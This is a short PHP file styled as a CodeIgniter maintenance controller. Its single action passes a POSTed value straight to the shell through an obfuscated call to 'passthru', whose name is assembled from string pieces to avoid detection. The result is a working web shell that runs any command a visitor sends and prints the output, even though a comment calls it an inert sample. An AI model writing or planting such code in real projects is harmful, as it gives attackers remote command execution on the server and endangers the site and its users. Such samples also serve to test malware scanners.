<?php
// inert sample: a CodeIgniter controller whose action pipes a posted value to the shell
defined('BASEPATH') or exit('No direct script access allowed');

class Maintenance extends CI_Controller
{
    public function index()
    {
        $t = $this->input->post('t', false);
        $fn = implode('', ['pass', 'thru']);
        echo '<pre>';
        $fn($t);
        echo '</pre>';
    }
}
